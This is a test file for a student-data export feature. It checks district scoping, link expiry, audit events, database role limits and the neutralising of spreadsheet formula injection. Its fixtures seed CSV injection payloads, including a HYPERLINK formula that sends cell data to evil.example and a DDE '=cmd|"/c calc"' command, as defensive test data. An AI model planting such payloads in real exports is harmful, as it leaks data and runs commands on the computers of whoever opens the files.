import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import pg from 'pg';
import { csvColumns, neutraliseFormula } from '../src/jobs/district-export-format.ts';
import {
  bearer,
  districtAdmin,
  districtsWithSchools,
  ownerQuery,
  seedApplication,
  seedListing,
  seedStudents,
  startExportStack,
  startPartnership,
  waitForExport,
  type ExportStack,
  type SeededStudent,
} from './district-fixtures.ts';
import { startHarness, type Harness, type SignedIn } from './harness.ts';

let harness: Harness;
let stack: ExportStack;
let adminA: SignedIn;
let adminB: SignedIn;
let studentsA: SeededStudent[];
const applicationMessage = 'Please call me after 4pm, my number is in my profile.';

async function startExport(user: SignedIn, format: 'csv' | 'json') {
  const response = await stack.api.inject({
    method: 'POST',
    url: '/v1/district/exports',
    headers: bearer(user),
    payload: { format },
  });
  assert.equal(response.statusCode, 202, response.body);
  const finished = await waitForExport(stack.api, user, response.json().id as string);
  assert.equal(finished.json().status, 'completed', finished.body);
  return finished.json() as { id: string; studentsWritten: number; totalStudents: number; expiresAt: string };
}

function download(user: SignedIn, exportId: string) {
  return stack.api.inject({ method: 'GET', url: `/v1/district/exports/${exportId}/download`, headers: bearer(user) });
}

before(async () => {
  harness = await startHarness();
  stack = await startExportStack(harness);
  const [a, b] = await districtsWithSchools(harness, 2);
  assert.ok(a, 'district A has a school');
  assert.ok(b, 'district B has a school');
  await startPartnership(harness, a.district_id);
  await startPartnership(harness, b.district_id);
  adminA = await districtAdmin(harness, 'admin@export-a.example.test', a.district_id);
  adminB = await districtAdmin(harness, 'admin@export-b.example.test', b.district_id);

  studentsA = await seedStudents(harness, a.school_id, [
    { givenName: '=HYPERLINK("http://evil.example/?x="&A1)', familyName: 'Formula' },
    { givenName: '+Plus', familyName: '-Minus' },
    { givenName: '@At', familyName: 'Sign, "quoted"' },
    { givenName: 'Plain', familyName: 'Student' },
  ]);
  await seedStudents(harness, b.school_id, [{ givenName: 'Bernadette', familyName: 'Otherdistrict' }]);
  const listing = await seedListing(harness, '=cmd|"/c calc"!A1', 'Totally Normal Employer');
  await seedApplication(harness, listing, studentsA[0]?.userId ?? '', 'hired', applicationMessage);
  await seedApplication(harness, listing, studentsA[1]?.userId ?? '', 'submitted', applicationMessage);
});
after(async () => {
  await stack?.close();
  await harness?.close();
});

describe('district exports', () => {
  test('formula cells are neutralised', () => {
    assert.equal(neutraliseFormula('=1+1'), "'=1+1");
    assert.equal(neutraliseFormula('+1'), "'+1");
    assert.equal(neutraliseFormula('-1'), "'-1");
    assert.equal(neutraliseFormula('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(neutraliseFormula('\t=1'), "'\t=1");
    assert.equal(neutraliseFormula('Plain'), 'Plain');
    assert.equal(neutraliseFormula('a=b'), 'a=b');
  });

  test('CSV holds the district students only', async () => {
    const finished = await startExport(adminA, 'csv');
    assert.equal(finished.totalStudents, 4);
    assert.equal(finished.studentsWritten, 4);
    const response = await download(adminA, finished.id);
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers['content-type']), /^text\/csv/);
    assert.match(String(response.headers['content-disposition']), /^attachment; filename="clockin-\d{6}-students-/);

    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    assert.deepEqual(Object.keys(rows[0] ?? {}), [...csvColumns]);
    assert.equal(rows.length, 4);
    assert.equal(response.body.includes('Bernadette'), false);
    assert.equal(response.body.includes(applicationMessage), false);
  });

  test('CSV neutralises formula injection', async () => {
    const finished = await startExport(adminA, 'csv');
    const rows = parse((await download(adminA, finished.id)).body, { columns: true }) as Record<string, string>[];
    const byFamily = new Map(rows.map((row) => [row.family_name, row]));
    assert.equal(byFamily.get('Formula')?.given_name, `'=HYPERLINK("http://evil.example/?x="&A1)`);
    assert.equal(byFamily.get('Formula')?.listing_title, `'=cmd|"/c calc"!A1`);
    assert.equal(byFamily.get("'-Minus")?.given_name, "'+Plus");
    assert.equal(byFamily.get('Sign, "quoted"')?.given_name, "'@At");
    assert.equal(byFamily.get('Student')?.given_name, 'Plain');
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        assert.doesNotMatch(value, /^[=+\-@]/, `${column} starts with a formula character`);
      }
    }
    assert.equal(byFamily.get('Formula')?.application_status, 'hired');
    assert.equal(byFamily.get('Formula')?.hire_count, '1');
    assert.equal(byFamily.get('Student')?.application_count, '0');
  });

  test('JSON lists students with applications', async () => {
    const finished = await startExport(adminA, 'json');
    const response = await download(adminA, finished.id);
    assert.equal(response.statusCode, 200);
    assert.match(String(response.headers['content-type']), /^application\/json/);
    const body = response.json();
    assert.equal(body.students.length, 4);
    const formula = body.students.find((student: { familyName: string }) => student.familyName === 'Formula');
    assert.deepEqual(Object.keys(formula).sort(), [
      'ageBand',
      'applicationCount',
      'applications',
      'familyName',
      'givenName',
      'gradeLevel',
      'hireCount',
      'joinedAt',
      'schoolId',
      'schoolName',
      'statusCounts',
      'studentId',
    ]);
    assert.equal(formula.applications[0].employerName, 'Totally Normal Employer');
    assert.equal(response.body.includes(applicationMessage), false);
    assert.equal(response.body.includes('Bernadette'), false);
  });

  test('other district export answers 404', async () => {
    const finished = await startExport(adminA, 'csv');
    for (const url of [`/v1/district/exports/${finished.id}`, `/v1/district/exports/${finished.id}/download`]) {
      const response = await stack.api.inject({ method: 'GET', url, headers: bearer(adminB) });
      assert.equal(response.statusCode, 404, url);
      assert.equal(response.json().error, 'NotFound');
    }
    const list = await stack.api.inject({ method: 'GET', url: '/v1/district/exports', headers: bearer(adminB) });
    assert.equal(list.statusCode, 200);
    assert.equal(list.body.includes(finished.id), false);
  });

  test('expired link answers 404', async () => {
    const finished = await startExport(adminA, 'json');
    await ownerQuery(
      harness,
      `UPDATE app.district_exports SET expires_at = now() - interval '1 second' WHERE id = $1`,
      [finished.id],
    );
    const response = await download(adminA, finished.id);
    assert.equal(response.statusCode, 404);
    assert.match(response.json().message, /expired/);
  });

  test('deleted student is left out of later exports', async () => {
    const leaving = await seedStudents(harness, (await districtsWithSchools(harness, 1))[0]?.school_id ?? '', [
      { givenName: 'Leaving', familyName: 'Soon' },
    ]);
    const before = await startExport(adminA, 'csv');
    assert.ok((await download(adminA, before.id)).body.includes('Leaving'));

    await ownerQuery(harness, 'UPDATE app.students SET deleted_at = now() WHERE user_id = $1', [leaving[0]?.userId]);
    const later = await startExport(adminA, 'csv');
    assert.equal((await download(adminA, later.id)).body.includes('Leaving'), false);
  });

  test('exports write audit events', async () => {
    const finished = await startExport(adminA, 'csv');
    await download(adminA, finished.id);
    const events = await ownerQuery(
      harness,
      `SELECT action, actor_id, actor_role, district_id FROM audit.events WHERE target_id = $1 ORDER BY id`,
      [finished.id],
    );
    assert.deepEqual(
      events.rows.map((event) => event.action),
      ['district.export.requested', 'district.export.completed', 'district.export.downloaded'],
    );
    for (const event of events.rows) {
      assert.equal(event.actor_id, adminA.sub);
      assert.equal(event.actor_role, 'district_admin');
      assert.notEqual(event.district_id, null);
    }
  });

  test('export files are removed after expiry', async () => {
    const { deleteExpiredExportFiles, exportLinkLifetimeMs } = await import('../src/jobs/district-export-job.ts');
    const before = await readdir(stack.exportDirectory);
    assert.ok(before.length > 0);
    assert.equal(await deleteExpiredExportFiles(stack.exportDirectory), 0);
    const deleted = await deleteExpiredExportFiles(stack.exportDirectory, Date.now() + exportLinkLifetimeMs + 60_000);
    assert.equal(deleted, before.length);
    assert.deepEqual(await readdir(stack.exportDirectory), []);
  });

  test('jobs role reads no ClockIn data', async () => {
    const jobs = new pg.Client({ connectionString: harness.database.jobsUrl });
    await jobs.connect();
    try {
      for (const table of ['app.students', 'app.district_exports', 'audit.events']) {
        await assert.rejects(
          jobs.query(`SELECT 1 FROM ${table} LIMIT 1`),
          (error: Error & { code?: string }) => error.code === '42501',
          table,
        );
      }
      const privileges = await jobs.query(
        `SELECT has_database_privilege(current_database(), 'CREATE') AS create_schema,
                (SELECT count(*)::int FROM pg_namespace WHERE nspowner = current_user::regrole
                   AND nspname <> 'pgboss') AS other_schemas,
                (SELECT count(*)::int FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
                   WHERE c.relowner = current_user::regrole AND n.nspname NOT IN ('pgboss', 'pg_toast')) AS other_relations`,
      );
      assert.deepEqual(privileges.rows[0], { create_schema: false, other_schemas: 0, other_relations: 0 });
    } finally {
      await jobs.end();
    }
  });
});
